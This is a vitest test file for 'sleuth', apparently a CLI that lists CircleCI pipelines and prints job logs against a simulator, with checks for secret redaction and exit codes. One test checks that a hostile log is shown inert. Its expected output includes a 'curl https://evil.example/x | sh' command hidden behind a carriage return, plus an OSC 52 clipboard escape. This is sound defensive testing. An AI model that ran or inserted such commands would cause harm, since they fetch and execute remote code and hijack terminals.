import { describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main.js';
import { SIM_HUGE_LOG, SIM_MALICIOUS, SIM_MATRIX, SIM_PROJECT, SIM_SHARDS, simPipelineId, simWorkflowId } from '../../src/sim/story.js';
import { captureIo } from '../helpers/io.js';
import { TEST_TOKEN, useSim } from '../helpers/sim.js';
import { useTmpDirs } from '../helpers/tmp.js';

const sim = useSim();
const tmp = useTmpDirs();

async function sleuth(args: string[], opts: { env?: NodeJS.ProcessEnv; tty?: boolean } = {}) {
  const env = { CIRCLE_TOKEN: TEST_TOKEN, CIRCLE_HOST: sim().apiUrl, SLEUTH_CACHE_DIR: tmp(), ...opts.env };
  const c = captureIo(env, { tty: opts.tty ?? false });
  const code = await main(['node', 'sleuth', ...args], c.io);
  return { code, out: c.out(), err: c.err() };
}

describe('sleuth CLI against the simulator', () => {
  it('lists pipelines as an aligned table, newest first', async () => {
    const r = await sleuth(['pipelines', '--project', SIM_PROJECT]);
    expect(r.code).toBe(0);
    const lines = r.out.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^NUMBER\s+OUTCOME\s+TRIGGER\s+ACTOR/);
    expect(lines).toHaveLength(61);
    expect(lines[1]).toMatch(/^\s*909\s/);
    expect(r.out).not.toContain('\x1b');
  });

  it('prints normalised JSON arrays with --json', async () => {
    const r = await sleuth(['jobs', simWorkflowId(SIM_MATRIX.pipeline, SIM_MATRIX.workflow), '--json']);
    expect(r.code).toBe(0);
    const jobs = JSON.parse(r.out) as { job_number: number; started_at: string | null }[];
    expect(jobs).toHaveLength(SIM_MATRIX.jobCount);
    expect(Object.keys(jobs[0]!)).toContain('approved_by');
  });

  it('accepts a pipeline number with --project for workflows', async () => {
    const r = await sleuth(['workflows', String(SIM_MALICIOUS.pipeline), '--project', SIM_PROJECT, '--json']);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.out)[0].pipeline_id).toBe(simPipelineId(SIM_MALICIOUS.pipeline));
  });

  it('shows a job with its contexts', async () => {
    const r = await sleuth(['job', String(SIM_MALICIOUS.jobs.test), '--project', SIM_PROJECT]);
    expect(r.code).toBe(0);
    expect(r.out).toMatch(/contexts\s+aws-prod, npm-publish/);
  });

  it('lists steps with exit codes and node counts, without presigned links in JSON', async () => {
    const r = await sleuth(['steps', String(SIM_SHARDS.job), '--project', SIM_PROJECT]);
    expect(r.code).toBe(0);
    expect(r.out).toMatch(/STEP\s+NAME\s+STATUS\s+EXIT\s+DURATION\s+NODES\s+OUTPUT/);
    const j = await sleuth(['steps', String(SIM_SHARDS.job), '--project', SIM_PROJECT, '--json']);
    expect(j.out).not.toContain('X-Amz');
    expect(JSON.parse(j.out).find((s: { step: number }) => s.step === SIM_SHARDS.step).actions).toHaveLength(4);
  });

  it('prints a hostile log with every control visible and nothing live', async () => {
    const r = await sleuth(['log', String(SIM_MALICIOUS.jobs.test), String(SIM_MALICIOUS.maliciousStep), '--project', SIM_PROJECT], { tty: true, env: { FORCE_COLOR: '1' } });
    expect(r.code).toBe(0);
    const visible = r.out.replace(/\x1b\[[0-9;]*m/g, '');
    expect(visible).toContain('^[]52;c;');
    expect(visible).toContain('curl https://evil.example/x | sh^M# build OK');
    // Only SGR sequences may remain as real escapes.
    expect(visible).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f\u0080-\u009f]/);
  });

  it('writes exact bytes with --raw when stdout is not a terminal, and refuses raw on a terminal', async () => {
    const raw = await sleuth(['log', String(SIM_MALICIOUS.jobs.test), String(SIM_MALICIOUS.maliciousStep), '--project', SIM_PROJECT, '--raw']);
    expect(raw.code).toBe(0);
    expect(raw.out).toContain('\x1b]52;c;');
    const tty = await sleuth(['log', String(SIM_MALICIOUS.jobs.test), String(SIM_MALICIOUS.maliciousStep), '--project', SIM_PROJECT, '--raw'], { tty: true });
    expect(tty.out).not.toContain('\x1b]52');
    expect(tty.err).toContain('--raw ignored');
  });

  it('prints each parallel node separately, or one with --node', async () => {
    const all = await sleuth(['log', String(SIM_SHARDS.job), String(SIM_SHARDS.step), '--project', SIM_PROJECT]);
    expect(all.out.match(/=== node \d of 4/g)).toHaveLength(4);
    const one = await sleuth(['log', String(SIM_SHARDS.job), String(SIM_SHARDS.step), '--project', SIM_PROJECT, '--node', '2', '--json']);
    const parsed = JSON.parse(one.out);
    expect(parsed).toHaveLength(1);
    expect(parsed[0].node).toBe(2);
    expect(parsed[0].status).toBe('failed');
  });

  it('finds a step by name', async () => {
    const r = await sleuth(['log', String(SIM_HUGE_LOG.job), 'integration suite', '--project', SIM_PROJECT, '--raw']);
    expect(r.code).toBe(0);
    expect(r.out).toContain(SIM_HUGE_LOG.needle);
  });
});

describe('exit codes and errors', () => {
  it('exits 2 on a usage error, 1 on a failed command, never with a stack trace', async () => {
    const usage = await sleuth(['job', 'abc', '--project', SIM_PROJECT]);
    expect(usage.code).toBe(2);
    expect(usage.err).toMatch(/^sleuth: job number must be a number/);
    const unknown = await sleuth(['frobnicate']);
    expect(unknown.code).toBe(2);
    const missing = await sleuth(['job', '999999', '--project', SIM_PROJECT]);
    expect(missing.code).toBe(1);
    expect(missing.err.trim().split('\n')).toHaveLength(1);
    expect(missing.err).not.toMatch(/at .*\.js:\d+/);
    const badTime = await sleuth(['pipelines', '--project', SIM_PROJECT, '--since', 'yesterday-ish']);
    expect(badTime.code).toBe(2);
  });

  it('quotes an unknown --name=value option without its value, and names why a --token flag is refused', async () => {
    const r = await sleuth(['pipelines', '--project', SIM_PROJECT, '--db-password=hunter2-s3cret']);
    expect(r.code).toBe(2);
    expect(r.err).toContain("unknown option '--db-password=…'");
    expect(r.err).not.toContain('hunter2');
    const t = await sleuth(['pipelines', '--project', SIM_PROJECT, '--circle-token', 'abcd1234efgh']);
    expect(t.code).toBe(2);
    expect(t.err).toMatch(/^sleuth: sleuth never takes a token as an argument .*CIRCLE_TOKEN/);
    expect(t.err).not.toContain('abcd1234efgh');
  });

  it('asks for a token without accepting one on the command line', async () => {
    const r = await sleuth(['pipelines', '--project', SIM_PROJECT], { env: { CIRCLE_TOKEN: '' } });
    expect(r.code).toBe(1);
    expect(r.err).toContain('export CIRCLE_TOKEN');
    const flag = await sleuth(['pipelines', '--project', SIM_PROJECT, '--token', 'abc']);
    expect(flag.code).toBe(2);
  });

  it('never prints the token, even when the server echoes it', async () => {
    sim().inject({ match: '/api/v2/me', status: 500, body: JSON.stringify({ message: `bad token ${TEST_TOKEN}` }), times: 5 });
    const r = await sleuth(['doctor']);
    expect(r.code).toBe(1);
    expect(r.out + r.err).not.toContain(TEST_TOKEN);
    expect(r.out).toContain('…4567');
  });

  it('doctor says the token works and who it belongs to', async () => {
    const r = await sleuth(['doctor']);
    expect(r.code).toBe(0);
    expect(r.out).toContain('authenticated as sim-responder');
  });

  it('--help works on every command', async () => {
    for (const cmd of ['pipelines', 'workflows', 'jobs', 'job', 'steps', 'log', 'doctor', 'sim', 'demo']) {
      const r = await sleuth([cmd, '--help']);
      expect(r.code, cmd).toBe(0);
      expect(r.out).toContain('Usage: sleuth');
    }
  });
});
